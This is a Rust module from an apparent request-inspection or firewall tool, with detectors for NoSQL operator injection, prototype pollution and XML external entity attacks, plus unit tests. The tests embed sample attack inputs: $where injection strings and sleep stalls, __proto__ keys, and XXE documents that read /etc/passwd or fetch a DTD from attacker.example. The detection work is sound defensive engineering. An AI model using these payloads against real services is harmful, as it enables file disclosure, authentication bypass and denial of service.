//! Detectors that look at the shape of a request rather than at one value: NoSQL operator
//! injection and prototype pollution (field names), and XXE (XML document type
//! declarations).
//!
//! Field names arrive as the JSON-pointer paths of the decoded field list (`/user/$ne`,
//! `/__proto__/isAdmin`) or as bracketed query and form names that PHP, Rails and the
//! Node `qs` module turn into objects (`password[$ne]`, `a[__proto__][b]`,
//! `constructor.prototype.x`). [`name_tokens`] splits both spellings into the same tokens.

use std::sync::LazyLock;

use regex::Regex;

use super::Match;

/// MongoDB query operators: they change what a query matches or run code. `$` keys that
/// JSON documents use legitimately (`$schema`, `$ref`, `$id`, `$type`) are not operators and
/// pass, and neither are update operators (`$set`, `$inc`): analytics APIs use them as
/// ordinary keys (`"$set": {"email": ...}` in a person's properties).
const NOSQL_OPERATORS: &[&str] = &[
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$where",
    "$expr",
    "$exists",
    "$or",
    "$and",
    "$nor",
    "$not",
    "$elemmatch",
    "$function",
    "$accumulator",
    "$jsonschema",
    "$text",
    "$size",
    "$all",
    "$mod",
    "$options",
];

/// The tokens of a field name: pointer tokens split on `/`, bracket and dot notation
/// split too (`a[b][c]`, `a.b.c`), RFC 6901 escapes undone.
pub fn name_tokens(name: &str) -> impl Iterator<Item = String> + '_ {
    name.split('/')
        .flat_map(|token| token.split(['[', ']', '.']))
        .filter(|token| !token.is_empty())
        .map(|token| token.replace("~1", "/").replace("~0", "~"))
}

/// A field name that is a NoSQL operator (`/password/$ne`, `password[$ne]`).
pub fn nosql_operator_name(name: &str) -> Option<Match> {
    if !name.contains('$') {
        return None;
    }
    let token = name_tokens(name).find(|token| is_nosql_operator(token))?;
    Some(Match::new("nosqli.operator", span_of(name, &token)))
}

fn is_nosql_operator(token: &str) -> bool {
    token.starts_with('$') && NOSQL_OPERATORS.iter().any(|op| op.eq_ignore_ascii_case(token))
}

/// Server-side JavaScript meant for a `$where` clause, or an operator object sent as text.
pub fn nosql_value(value: &str) -> Option<Match> {
    static WHERE_JS: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(concat!(
            // Breaking out of a string inside a $where expression, then code that decides
            // the match or stalls the database.
            r#"(?i)['"]\s*(?:;|\|\||&&)\s*(?:return\b|this\.\w+|sleep\s*\(|while\s*\(\s*(?:true|1)\s*\)|db\.\w+|['"]?[\w.]+['"]?\s*(?:===?|!==?)\s*['"\w])"#,
            // A whole value that is a JavaScript condition or a stall: `0 || 1==1`, `1; sleep(5000)`.
            r#"|^\s*[\w'"]+\s*(?:\|\||&&)\s*['"]?\w+['"]?\s*(?:===?|!==?)\s*['"]?\w+['"]?\s*$"#,
            r#"|^\s*[\w'"]*\s*;\s*(?:sleep\s*\(\s*\d+\s*\)|while\s*\(\s*(?:true|1)\s*\))"#,
            // Operator objects as text: {"$ne": ...}, {$where: ...}.
            r#"|\{\s*["']?\$(?:ne|eq|gt|gte|lt|lte|regex|where|expr|function|accumulator|nin|in|exists|elemMatch|or|and|nor|not|jsonSchema|text|size|all|mod)["']?\s*:"#,
        ))
        .ok()
    });
    let found = WHERE_JS.as_ref()?.find(value)?;
    Some(Match::new("nosqli.code", found.range()))
}

/// A field name that reaches an object's prototype (`__proto__`, `constructor.prototype`).
pub fn prototype_name(name: &str) -> Option<Match> {
    if !name.contains("__proto__") && !name.contains("prototype") {
        return None;
    }
    let tokens: Vec<String> = name_tokens(name).collect();
    if let Some(token) = tokens.iter().find(|token| token.as_str() == "__proto__") {
        return Some(Match::new("prototype_pollution.proto_key", span_of(name, token)));
    }
    let constructor_prototype =
        tokens.windows(2).any(|pair| matches!(pair, [a, b] if a == "constructor" && b == "prototype"));
    constructor_prototype.then(|| Match::new("prototype_pollution.constructor_prototype", 0..name.len()))
}

/// Prototype keys inside a value: JSON text that was not decoded into fields (too deep,
/// or inside another encoding), or a merge path such as `__proto__.isAdmin`.
pub fn prototype_value(value: &str) -> Option<Match> {
    static PROTO: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r#"(?:["']__proto__["']\s*:|\b__proto__\s*[.\[/]|["']constructor["']\s*:\s*\{\s*["']prototype["']|\bconstructor\s*(?:\.|/|\[\s*["']?)prototype\b)"#)
            .ok()
    });
    let found = PROTO.as_ref()?.find(value)?;
    Some(Match::new("prototype_pollution.in_value", found.range()))
}

/// XML that declares entities (external, parameter, or nested for expansion) or pulls in
/// other documents with XInclude. API calls have no use for a DTD with entities: SOAP
/// forbids document type declarations altogether.
pub fn xxe(value: &str) -> Option<Match> {
    static ENTITY: LazyLock<Option<Regex>> = LazyLock::new(|| {
        Regex::new(r#"(?is)<!DOCTYPE[^>\[]*\[.*?<!ENTITY\s+(%\s*)?[\w.:-]+\s+(SYSTEM|PUBLIC)?"#).ok()
    });
    static XINCLUDE: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r"(?i)<[\w.-]+:include\b[^>]*\bhref\s*=|XInclude").ok());
    static DOCTYPE_SYSTEM: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"(?i)<!DOCTYPE\s+[\w.:-]+\s+(SYSTEM|PUBLIC)\s+["']"#).ok());
    if !value.contains('<') {
        return None;
    }
    if let Some(found) = ENTITY.as_ref().and_then(|re| re.captures(value)) {
        let whole = found.get(0).map_or(0..value.len(), |m| m.range());
        let rule = if found.get(1).is_some() {
            "xxe.parameter_entity"
        } else if found.get(2).is_some() {
            "xxe.external_entity"
        } else {
            "xxe.entity_declaration"
        };
        return Some(Match::new(rule, whole));
    }
    if let Some(found) = DOCTYPE_SYSTEM.as_ref().and_then(|re| re.find(value)) {
        return Some(Match::new("xxe.external_dtd", found.range()));
    }
    let found = XINCLUDE.as_ref()?.find(value)?;
    Some(Match::new("xxe.xinclude", found.range()))
}

/// Where `token` sits in `name`, or the whole name when it was unescaped.
fn span_of(name: &str, token: &str) -> std::ops::Range<usize> {
    name.find(token).map_or(0..name.len(), |start| start..start + token.len())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn operator_names_in_every_spelling() {
        for name in ["/password/$ne", "password[$ne]", "/user/name/$regex", "filter[$where]", "/q/$GT"] {
            assert!(nosql_operator_name(name).is_some(), "{name}");
        }
        for name in ["/$schema", "/definitions/$ref", "/$id", "/price", "amount[$]", "/cost_$usd"] {
            assert_eq!(nosql_operator_name(name), None, "{name}");
        }
    }

    #[test]
    fn where_clauses_and_operator_text() {
        for value in [
            "' || this.password.length > 0 || '",
            "x'; return true; var y='",
            "'; sleep(5000); '",
            "\" && this.role == 'admin",
            r#"{"$ne": null}"#,
            "{$where: 'sleep(100)'}",
            "admin' || '1'=='1",
            "admin'; return this.password != ''; var x='",
            "0 || 1==1",
            "1; sleep(5000)",
            r#"{"password": {"$not": {"$eq": "x"}}}"#,
        ] {
            assert!(nosql_value(value).is_some(), "{value}");
        }
        for value in [
            "It's this.value that matters",
            "return true if the user's flag is set",
            r#"{"$schema": "https://json-schema.org/draft/2020-12/schema"}"#,
            "price: $12.50 || $15",
            "Use db.collection.find() in the shell",
            "a || b",
            "if (x == 1) { sleep(5); }",
            "Rock 'n' roll == fun",
        ] {
            assert_eq!(nosql_value(value), None, "{value}");
        }
    }

    #[test]
    fn prototype_keys_and_values() {
        for name in [
            "/__proto__/isAdmin",
            "__proto__[admin]",
            "a[__proto__][b]",
            "/constructor/prototype/x",
            "constructor[prototype][polluted]",
            "x.__proto__.y",
        ] {
            assert!(prototype_name(name).is_some(), "{name}");
        }
        for name in ["/constructor", "/prototype", "/proto", "/user/__protocol__"] {
            assert_eq!(prototype_name(name), None, "{name}");
        }
        assert!(prototype_value(r#"{"__proto__": {"isAdmin": true}}"#).is_some());
        assert!(prototype_value("__proto__.isAdmin").is_some());
        assert!(prototype_value("/api/settings/__proto__/isAdmin").is_some(), "a raw path");
        assert!(prototype_value("/api/x/constructor/prototype/polluted").is_some());
        assert!(prototype_value(r#"{"constructor": {"prototype": {"x": 1}}}"#).is_some());
        assert_eq!(
            prototype_value("The constructor sets up the object; the prototype chain is shared."),
            None
        );
    }

    #[test]
    fn entity_declarations_external_dtds_and_xinclude() {
        let cases = [
            (
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
                "xxe.external_entity",
            ),
            (
                r#"<!DOCTYPE r [ <!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p; ]><r/>"#,
                "xxe.parameter_entity",
            ),
            (
                r#"<!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><lolz>&b;</lolz>"#,
                "xxe.entity_declaration",
            ),
            (r#"<!doctype r system "http://attacker.example/evil.dtd"><r/>"#, "xxe.external_dtd"),
            (
                r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></r>"#,
                "xxe.xinclude",
            ),
        ];
        for (value, rule) in cases {
            assert_eq!(xxe(value).map(|m| m.rule), Some(rule), "{value}");
        }
        for value in [
            r#"<?xml version="1.0"?><order><id>1</id></order>"#,
            "<!DOCTYPE html><html><body>hi</body></html>",
            "Use <!ENTITY> declarations carefully, says the XML book.",
            "a < b",
        ] {
            assert_eq!(xxe(value), None, "{value}");
        }
    }

    proptest! {
        #[test]
        fn never_panic(value in ".{0,300}") {
            for found in [nosql_operator_name(&value), nosql_value(&value), prototype_name(&value), prototype_value(&value), xxe(&value)].into_iter().flatten() {
                prop_assert!(found.span.end <= value.len());
            }
        }
    }
}
